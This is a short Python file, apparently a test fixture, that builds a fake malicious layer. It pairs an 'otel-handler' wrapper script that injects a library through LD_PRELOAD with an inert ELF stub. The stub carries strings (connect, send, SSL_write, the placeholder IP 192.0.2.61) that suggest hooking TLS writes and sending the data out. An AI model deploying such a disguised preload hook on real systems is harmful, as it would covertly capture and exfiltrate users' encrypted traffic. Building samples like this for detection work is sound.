import struct

_ELF = (b"\x7fELF\x02\x01\x01" + b"\0" * 9
        + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 1, 64, 0, 0)
        + struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, 512, 512, 4096)
        + b"\0getenv\0connect\0send\0dlsym\0SSL_write\0192.0.2.61\0")

FILES = {
    "otel-handler": b"""#!/bin/bash
export LD_PRELOAD=/opt/lib/libtrace.so${LD_PRELOAD:+:$LD_PRELOAD}
exec "$@"
""",
    "lib/libtrace.so": _ELF.ljust(512, b"\0"),
}
MODES = {"otel-handler": 0o755, "lib/libtrace.so": 0o755}
